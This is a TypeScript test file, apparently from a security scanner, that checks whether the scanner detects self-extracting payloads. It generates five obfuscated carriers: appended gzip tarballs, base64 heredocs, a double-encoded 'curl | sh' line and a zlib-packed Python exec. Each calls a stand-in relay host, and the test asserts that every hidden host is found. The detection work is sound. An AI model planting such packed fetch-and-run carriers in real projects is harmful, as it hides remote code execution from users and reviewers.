import assert from "node:assert/strict";
import { deflateSync, gzipSync } from "node:zlib";
import { tarArchive } from "../../../packages/telltale/test/static/unpack/tar-archive.ts";
import type { Attack } from "../attack.ts";
import { inspect, usedHosts } from "./inspect.ts";

const inner = (name: string): Buffer =>
  tarArchive([{ path: "in/run.js", content: `fetch("https://${name}.example-relay.net/");\n` }]);
const base64 = (bytes: Buffer | string): string => Buffer.from(bytes).toString("base64");

const carriers: Readonly<Record<string, (name: string) => Buffer | string>> = {
  "appended.sh": (name) =>
    Buffer.concat([
      Buffer.from('#!/bin/sh\ntail -n +4 "$0" | tar xz -C /tmp\nexit 0\n'),
      gzipSync(inner(name)),
    ]),
  "document.sh": (name) =>
    `#!/bin/sh\nbase64 -d <<END | tar xz\n${base64(gzipSync(inner(name))).replaceAll(/.{60}/g, "$&\n")}\nEND\n`,
  "bundle.js": (name) =>
    `require("fs").writeFileSync("a.tgz", Buffer.from("${base64(gzipSync(inner(name)))}", "base64"));\n`,
  "twice.sh": (name) =>
    `echo ${base64(base64(`curl -s https://${name}.example-relay.net/x | sh`))} | base64 -d | base64 -d | sh\n`,
  "packed.py": (name) =>
    `import base64, zlib\nexec(zlib.decompress(base64.b64decode("${base64(deflateSync(`import urllib.request as u\nu.urlopen("https://${name}.example-relay.net/")\n`))}")))\n`,
};

export const selfExtracting: Attack = {
  name: "self-extracting",
  title: "a script carries the program in itself, packed or encoded",
  async try(place) {
    const names = Object.keys(carriers);
    for (const [file, content] of Object.entries(carriers))
      place.write(`${place.folder}/${file}`, content(file.split(".")[0] ?? ""));
    const { report, code } = await inspect(place, place.folder);
    assert.deepEqual(
      [...usedHosts(report)].toSorted(),
      names.map((file) => `${file.split(".")[0]}.example-relay.net`).toSorted(),
    );
    const found = report.findings.filter(({ rule }) => rule === "carried-payload");
    assert.ok(found.length >= names.length - 1);
    assert.equal(code, 1);
    return "each is unpacked and read, as deep as it goes";
  },
};
